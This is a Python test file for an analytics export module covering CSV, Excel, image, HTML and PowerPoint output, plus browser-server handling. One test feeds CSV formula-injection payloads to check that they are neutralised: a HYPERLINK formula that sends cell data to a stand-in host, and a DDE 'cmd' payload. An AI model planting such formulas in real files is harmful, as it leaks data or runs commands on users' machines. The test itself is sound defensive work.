"""Exports: CSV and Excel tables (with metadata sheet), PNG/SVG/PDF through one kaleido server,
self-contained HTML, PowerPoint deck.  Image tests need Debian's chromium (``make test``
installs it); without it they check that the plain "not available" message is given."""
from __future__ import annotations

import io
import re
import struct
import zlib

import numpy as np
import pandas as pd
import plotly.graph_objects as go
import pytest
from openpyxl import load_workbook

from analytics import export
from analytics.charts.base import Provenance

HAS_BROWSER = bool(export.export_available())
needs_browser = pytest.mark.skipif(not HAS_BROWSER, reason="no Chromium: covered by test_no_browser_message")


def _table() -> pd.DataFrame:
    return pd.DataFrame({
        "site_ci5": pd.array(["Stomach", "Лёгкое", "Süd vəzisi", "=1+1"], dtype="str"),
        "sex": pd.array([1, 2, 2, 1], dtype="Int8"),
        "count": pd.array([12, 7, None, 3], dtype="Float64"),
        "value": [12.345678901, 3.5, np.nan, 0.1],
    })


def _figure() -> go.Figure:
    fig = go.Figure(go.Bar(x=["a", "b"], y=[1, 2]))
    fig.update_layout(title="t")
    return fig


def _png_chunks(png: bytes) -> dict[bytes, bytes]:
    out, pos = {}, 8
    while pos < len(png):
        length = struct.unpack(">I", png[pos:pos + 4])[0]
        ctype = png[pos + 4:pos + 8]
        data = png[pos + 8:pos + 8 + length]
        crc = struct.unpack(">I", png[pos + 8 + length:pos + 12 + length])[0]
        assert crc == zlib.crc32(ctype + data), f"bad CRC in {ctype!r}"
        out.setdefault(ctype, data)
        pos += 12 + length
    return out


PROV = Provenance(source="Demo registry", period="2015-2019", standard="Segi 1960 world",
                  method="Tiwari 95% CI", date="2026-11-25")


def test_csv_round_trip_with_bom():
    df = _table()
    raw = export.table_to_csv(df)
    assert raw[:3] == b"\xef\xbb\xbf"
    back = pd.read_csv(io.BytesIO(raw))
    assert list(back.columns) == list(df.columns)
    # text that a spreadsheet would run as a formula comes back as text (OWASP CSV injection)
    assert back["site_ci5"].tolist() == ["Stomach", "Лёгкое", "Süd vəzisi", "'=1+1"]
    assert back["value"].iloc[0] == 12.345678901               # full precision
    assert np.isnan(back["count"].iloc[2])
    assert export.table_to_csv(df, bom=False)[:8] == b"site_ci5"


def test_csv_neutralises_formulas_in_text_cells_and_names_only():
    """Issue 11: spreadsheet formulas in region names reached CSV downloads. Every text cell (and
    column name) starting with = + - @ tab or CR gets a leading quote; numbers stay numbers."""
    df = pd.DataFrame({
        "region_name": ["=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                        "\tAbşeron", "=1", "Bakı", None],
        "change": [-1.5, -2.0, 0.0, 1.0, -3.0, 4.0, 5.0, -6.0],
        "code": pd.Categorical(["=A", "B", "C", "D", "E", "F", "G", "H"]),
        "=1+1": range(8),
    })
    back = pd.read_csv(io.BytesIO(export.table_to_csv(df)), keep_default_na=False)
    assert "'\r=1".encode() in export.table_to_csv(pd.DataFrame({"x": ["\r=1"]}))
    assert list(back.columns) == ["region_name", "change", "code", "'=1+1"]
    assert back["region_name"].tolist() == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'+cmd|' /C calc'!A0", "'-2+3",
                                            "'@SUM(A1)", "'\tAbşeron", "'=1", "Bakı", ""]
    assert back["change"].tolist() == [-1.5, -2.0, 0.0, 1.0, -3.0, 4.0, 5.0, -6.0]     # numbers untouched
    assert back["code"].tolist() == ["'=A", "B", "C", "D", "E", "F", "G", "H"]
    assert df["region_name"].iloc[0].startswith("=")                                   # the input is not changed


def test_excel_round_trip_and_metadata_sheet():
    df = _table()
    meta = {"source": "Demo registry", "filters": {"sex": "both", "period": "2015-2019"},
            "standard": "Segi 1960 world", "method": "Tiwari gamma, 95% CI", "date": "2026-11-25",
            "suppression": "counts 1-4 not shown", "registry": "AZ"}
    wb = load_workbook(io.BytesIO(export.table_to_excel(df, meta)))
    assert wb.sheetnames == ["data", "metadata"]
    ws = wb["data"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("site_ci5", "sex", "count", "value")
    assert rows[1] == ("Stomach", 1, 12, 12.345678901)
    assert rows[2][0] == "Лёгкое" and rows[3][0] == "Süd vəzisi"
    assert rows[3][2] is None and rows[3][3] is None             # missing stays empty
    assert rows[4][0] == "=1+1" and ws["A5"].data_type == "s"    # text, never a formula
    md = dict(list(wb["metadata"].iter_rows(values_only=True))[1:])
    assert md["Source"] == "Demo registry"
    assert md["Filters"] == "sex: both; period: 2015-2019"
    assert md["Standard population"] == "Segi 1960 world"
    assert md["Method"] == "Tiwari gamma, 95% CI"
    assert md["Date"] == "2026-11-25"
    assert md["Suppression rule"] == "counts 1-4 not shown"
    assert md["registry"] == "AZ"


def test_excel_metadata_defaults_and_translation():
    wb = load_workbook(io.BytesIO(export.table_to_excel(_table(), {"source": "x"}, lang="ru")))
    assert wb.sheetnames == ["данные", "метаданные"]
    md = dict(list(wb["метаданные"].iter_rows(values_only=True))[1:])
    assert md["Источник"] == "x"
    assert md["Метод"] == "не указано"
    assert re.match(r"\d{4}-\d\d-\d\dT", md["Дата"])              # filled with the export time


def test_png_scale_for_300_dpi():
    # 170 mm at 300 dpi = 170 / 25.4 * 300 = 2007.87 px
    assert export.png_scale(1000) == pytest.approx(2.00787, rel=1e-5)
    assert export.png_scale(800, 80, 300) == pytest.approx(80 / 25.4 * 300 / 800)


def test_html_is_self_contained():
    html = export.figure_to_html(_figure(), provenance=PROV).decode("utf-8")
    assert not re.search(r"<script[^>]+src\s*=\s*[\"']?(https?:)?//", html, re.I)
    assert "Plotly.newPlot" in html and len(html) > 1_000_000     # plotly.js inline (~4.6 MB)
    assert "Demo registry" in html                                  # footer in the figure


def test_no_browser_message(monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    status = export.export_available()
    assert not status and status.browser is None
    assert "Chromium" in status.message and "HTML" in status.message
    assert "Chromium" in export.export_available("ru").message and "HTML" in export.export_available("ru").message


@needs_browser
def test_png_has_requested_pixel_size_and_300_dpi():
    png = export.figure_to_image(_figure(), "png", width=400, height=300, scale=2)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    assert export.png_size(png) == (800, 600)
    chunks = _png_chunks(png)
    ppm_x, ppm_y, unit = struct.unpack(">IIB", chunks[b"pHYs"])
    assert unit == 1 and ppm_x == ppm_y == round(300 / 0.0254)     # 11811 px/m = 300 dpi


@needs_browser
def test_png_physical_width_gives_300_dpi_pixels():
    png = export.figure_to_image(_figure(), "png", width=600, height=400, width_mm=50.8)
    # 50.8 mm = 2 in -> 600 px at 300 dpi: scale 1
    assert export.png_size(png) == (600, 400)
    w, h = export.png_size(export.figure_to_image(_figure(), "png", width=1000, height=500, provenance=PROV))
    assert abs(w - 2008) <= 1 and abs(h - 1004) <= 1                # default 170 mm at 300 dpi


@needs_browser
def test_svg_and_pdf_magic_bytes_and_footer():
    svg = export.figure_to_image(_figure(), "svg", width=500, height=300, provenance=PROV)
    assert svg.lstrip()[:4] == b"<svg" and b"Demo registry" in svg
    assert b"Period: 2015-2019" in svg
    pdf = export.figure_to_image(_figure(), "pdf", width=500, height=300)
    assert pdf[:5] == b"%PDF-" and pdf.rstrip().endswith(b"%%EOF")
    dated = export.figure_to_image(_figure(), "svg", width=500, height=300)        # no provenance: date only
    assert re.search(rb"Date: \d{4}-\d\d-\d\d", dated)
    assert b"Date:" not in export.figure_to_image(_figure(), "svg", width=500, height=300, provenance=False)
    with pytest.raises(ValueError, match="jpeg"):
        export.figure_to_image(_figure(), "jpeg")


@needs_browser
def test_a_map_exports_with_the_local_base_map(monkeypatch):
    """kaleido, like plotly.js, asks for the base-map TopoJSON for any map: it reads the copy in
    static/topojson (plotly's CDN is out of reach here, so a map that needed it would not draw)."""
    import plotly.io as pio
    from shapely.geometry import box
    import geopandas as gpd
    from analytics.charts import maps
    monkeypatch.setattr(pio.defaults, "topojson", None)        # nothing configured beforehand
    g = gpd.GeoDataFrame({"region_code": ["a", "b"]}, geometry=[box(47, 40, 48, 41), box(48, 40, 49, 41)], crs=4326)
    fig = maps.choropleth(g, pd.DataFrame({"region_code": ["a", "b"], "v": [1.0, 2.0]}), "v", k=2, title="Two")
    svg = export.figure_to_image(fig, "svg", width=500, height=400, provenance=False).decode()
    paths = re.findall(r'<path class="choroplethlocation" fill="(rgb\([^)]*\))" d="([^"]*)"', svg)
    assert len(paths) == 2 and len({fill for fill, _ in paths}) == 2, paths
    # each region drawn as itself: one ring, not the whole frame minus the region (the boxes are
    # anticlockwise, GeoJSON's order, which d3-geo would read as "everything but")
    assert all(d.count("M") == 1 for _, d in paths), paths


@needs_browser
def test_one_server_is_reused(monkeypatch):
    export.figure_to_image(_figure(), "svg")
    assert export._SERVER_STARTED
    calls = []
    monkeypatch.setattr(export, "_start_server", lambda *a, **k: calls.append(1))
    export.figure_to_image(_figure(), "svg")
    assert calls == []
    monkeypatch.undo()
    export.stop_export_server()                  # a stopped (or crashed) server is started again
    assert export.figure_to_image(_figure(), "svg").lstrip()[:4] == b"<svg" and export._SERVER_STARTED


@needs_browser
def test_a_tab_draws_many_figures_between_reloads_and_the_images_are_those_of_a_fresh_page(monkeypatch):
    """A tab whose figure was drawn serves the next one without reloading its page (kaleido reloads
    after every figure); more figures than tabs, from several threads at once, are all drawn; a
    figure drawn on a page that drew others is byte for byte the one a freshly loaded page draws;
    after RELOAD_EVERY figures the tab reloads."""
    import kaleido
    from concurrent.futures import ThreadPoolExecutor

    for name in ("_get_kaleido_tab", "_return_kaleido_tab"):     # the kaleido methods the server overrides
        assert name in vars(kaleido.Kaleido)
    export.stop_export_server()
    reloads = []
    orig = kaleido.Kaleido._return_kaleido_tab

    async def counted(self, tab):
        reloads.append(tab)
        await orig(self, tab)
    monkeypatch.setattr(kaleido.Kaleido, "_return_kaleido_tab", counted)
    probe = go.Figure(go.Scatter(x=[1, 2, 3], y=[3, 1, 2]), layout={"title": "probe"})
    first = export.figure_to_image(probe, "png", width=300, height=200, provenance=False)   # a fresh page
    n = 3 * export.EXPORT_TABS
    with ThreadPoolExecutor(n) as pool:
        svgs = list(pool.map(lambda i: export.figure_to_image(go.Figure(go.Bar(x=["a"], y=[i + 1])), "svg",
                                                              width=300, height=200, provenance=False), range(n)))
    assert all(s.lstrip()[:4] == b"<svg" for s in svgs)
    again = export.figure_to_image(probe, "png", width=300, height=200, provenance=False)  # a page that drew others
    assert reloads == []
    assert again == first
    monkeypatch.setattr(export, "RELOAD_EVERY", 1)
    export.figure_to_image(probe, "svg", width=300, height=200, provenance=False)
    assert len(reloads) == 1


@needs_browser
def test_a_pdf_drawn_on_a_page_that_drew_other_sizes_and_formats_is_a_fresh_pages():
    """A PDF is printed from the export page itself (its page size set for the figure): on a page
    that drew other figures, of other sizes and formats, it has the size, text and glyphs a fresh
    page gives."""
    from pypdf import PdfReader

    def read(pdf: bytes):
        page = PdfReader(io.BytesIO(pdf)).pages
        return len(page), [round(float(x)) for x in page[0].mediabox], page[0].extract_text()

    probe = go.Figure(go.Bar(x=["a", "b"], y=[1, 2]), layout={"title": "Probe ə Кириллица"})
    other = go.Figure(go.Scatter(x=[1, 2], y=[2, 1]), layout={"title": "Other"})
    export.stop_export_server()
    fresh = read(export.figure_to_image(probe, "pdf", width=800, height=500, provenance=False))
    for fmt, w, h in (("png", 300, 900), ("pdf", 1200, 300), ("svg", 300, 900)):
        for _ in range(export.EXPORT_TABS):          # every tab draws them
            export.figure_to_image(other, fmt, width=w, height=h, provenance=False)
    again = [read(export.figure_to_image(probe, "pdf", width=800, height=500, provenance=False))
             for _ in range(export.EXPORT_TABS)]
    assert fresh[:2] == (1, [0, 0, 600, 375]) and "ə" in fresh[2] and "Кириллица" in fresh[2]
    assert again == [fresh] * export.EXPORT_TABS


def test_a_tab_whose_figure_failed_is_reloaded_and_one_that_drew_is_not(monkeypatch):
    """The decision alone, on a stand-in tab: a figure that raised (a JavaScript error, a timeout's
    cancellation) leaves its page to be reloaded before the tab draws again."""
    import asyncio

    import kaleido

    reloaded = []

    async def reload(self, tab):
        reloaded.append(tab)
    monkeypatch.setattr(kaleido.Kaleido, "_return_kaleido_tab", reload)

    class Tab:
        js_logger = type("Logger", (), {"reset": lambda self: None})()

        async def _calc_fig(self, fail):
            if fail:
                raise RuntimeError("the figure's JavaScript failed")
            return b"image"

    browser = export._browser_class().__new__(export._browser_class())   # no Chromium: the queue alone

    async def draw(tab, fail):
        browser.tabs_ready = asyncio.Queue()
        export._count_drawings(tab)
        try:
            await tab._calc_fig(fail)
        except RuntimeError:
            pass
        await browser._return_kaleido_tab(tab)
        await asyncio.sleep(0)                       # the background reload runs
        return browser.tabs_ready.qsize()

    tab = Tab()
    assert asyncio.run(draw(tab, False)) == 1 and reloaded == [] and tab.drawings == 1
    assert asyncio.run(draw(tab, True)) == 0 and reloaded == [tab] and tab.drawings == 0


@needs_browser
def test_presentation_has_one_slide_per_chart_with_picture_title_reading_footer():
    from pptx import Presentation
    from pptx.enum.shapes import MSO_SHAPE_TYPE
    slides = [export.Slide(_figure(), title=f"Chart {i}", reading=f"Reading {i}", provenance=PROV)
              for i in range(3)]
    slides.append({"figure": _figure(), "title": "From a dict", "reading": "r", "footer": "Source: x"})
    prs = Presentation(io.BytesIO(export.build_presentation(slides)))
    assert len(prs.slides) == 4
    assert prs.slide_width / prs.slide_height == pytest.approx(16 / 9, rel=1e-3)
    for i, slide in enumerate(prs.slides):
        pics = [s for s in slide.shapes if s.shape_type == MSO_SHAPE_TYPE.PICTURE]
        assert len(pics) == 1
        img = pics[0].image
        assert img.content_type == "image/png"
        w, h = export.png_size(img.blob)
        assert w >= 2000                               # high resolution: >= 200 dpi over 12.4 in
        texts = [s.text_frame.text for s in slide.shapes if s.has_text_frame]
        assert slide.shapes.title.text == (f"Chart {i}" if i < 3 else "From a dict")
        if i < 3:
            assert f"Reading {i}" in texts
            assert any("Source: Demo registry" in x and "Date: 2026-11-25" in x for x in texts)
        else:
            assert "Source: x" in texts


def test_excel_several_tables_with_safe_sheet_names():
    men = pd.DataFrame({"age_group": ["0-4", "5-9"], "count": [1, 2]})
    women = pd.DataFrame({"age_group": ["0-4"], "count": [3]})
    raw = export.table_to_excel({"Men: CI5 table [2015/2019]": men, "women": women, "Women": women},
                                {"source": "demo"})
    wb = load_workbook(io.BytesIO(raw))
    assert wb.sheetnames == ["Men_ CI5 table _2015_2019_", "women", "Women (2)", "metadata"]
    assert list(wb["women"].iter_rows(values_only=True)) == [("age_group", "count"), ("0-4", 3)]
    with pytest.raises(ValueError, match="no table"):
        export.table_to_excel({}, None)


class _FakeServer:
    def __init__(self, alive: bool = True):
        self.is_alive, self.closed, self.jobs = alive, False, 0

    def alive(self) -> bool:
        return self.is_alive

    def close(self) -> None:
        self.closed = True


def test_a_figures_own_error_does_not_restart_the_browser_others_are_using(monkeypatch):
    """Review finding: any error stopped the current browser, so a concurrent user's render on it
    failed too. Only a dead or hung browser is restarted, and only if it is still the current one."""
    live = _FakeServer()
    monkeypatch.setattr(export, "_SERVER", live)
    monkeypatch.setattr(export, "_SERVER_STARTED", True)

    def bad_figure(server):
        server.jobs += 1
        raise ValueError("Invalid value of type 'builtins.str' received for the 'x' property")
    with pytest.raises(export.ExportUnavailable, match="Invalid value"):
        export._with_restart(bad_figure, "en")
    assert live.jobs == 2 and not live.closed and export._SERVER is live      # tried again on the same browser


def test_a_dead_browser_is_replaced_once_and_a_newer_one_is_never_stopped(monkeypatch):
    dead, fresh = _FakeServer(alive=False), _FakeServer()
    monkeypatch.setattr(export, "_SERVER", dead)
    monkeypatch.setattr(export, "_SERVER_STARTED", True)
    monkeypatch.setattr(export, "_start_server", lambda browser: fresh)
    monkeypatch.setattr(export, "export_available", lambda lang="en": export.ExportStatus(True, "/usr/bin/chromium", ""))

    def draw(server):
        if server is dead:
            raise RuntimeError("the export browser stopped: killed")
        return b"<svg/>"
    assert export._with_restart(draw, "en") == b"<svg/>"
    assert dead.closed and export._SERVER is fresh
    export.stop_export_server(only=dead)          # a late thread that saw the old one fail
    assert export._SERVER is fresh and not fresh.closed


def test_a_start_of_the_export_browser_that_hangs_is_abandoned_and_tried_again(monkeypatch):
    """A Chromium start that never finished held the export for 120 s and then failed (seen once
    in a loaded test run): the hung browser is closed and a second one started."""
    import asyncio

    from analytics import export

    class Hangs:
        made: list = []

        def __init__(self, **kw):
            self.closed, self.failed = False, None
            Hangs.made.append(self)

        async def open(self):
            if len(Hangs.made) <= hang:
                await asyncio.sleep(3600)

        async def close(self):
            self.closed = True

    monkeypatch.setattr(export, "_browser_class", lambda: Hangs)
    monkeypatch.setattr(export, "START_TIMEOUT", 0.3)
    hang = 1
    server = export._start_server("/usr/bin/chromium")
    try:
        assert len(Hangs.made) == 2 and Hangs.made[0].closed and server._kaleido is Hangs.made[1]
    finally:
        server.close()
    assert Hangs.made[1].closed
    Hangs.made.clear()
    hang = export.START_ATTEMPTS
    with pytest.raises(TimeoutError):
        export._start_server("/usr/bin/chromium")
    assert len(Hangs.made) == export.START_ATTEMPTS and all(k.closed for k in Hangs.made)


def test_browser_found_once_per_search_path(monkeypatch):
    """The dashboard asks whether PNG/SVG/PDF can be made for every chart of every rerun: the
    browser is looked up on the search path once per process and path (``shutil.which`` is
    about thirty system calls), a new PATH looks again, BROWSER_PATH is checked as given."""
    looked = []
    monkeypatch.delenv("BROWSER_PATH", raising=False)
    monkeypatch.setattr(export.shutil, "which", lambda name, path=None: looked.append((name, path)) or
                        ("/opt/x/chromium" if name == export._BROWSER_NAMES[0] else None))
    export._browser_on_path.cache_clear()
    try:
        monkeypatch.setenv("PATH", "/opt/x")
        assert [export.export_available().browser for _ in range(5)] == ["/opt/x/chromium"] * 5
        assert looked == [(export._BROWSER_NAMES[0], "/opt/x")]
        monkeypatch.setenv("PATH", "/opt/y")
        assert export.export_available().browser == "/opt/x/chromium" and len(looked) == 2
        monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
        assert not export.export_available() and len(looked) == 2
    finally:
        export._browser_on_path.cache_clear()
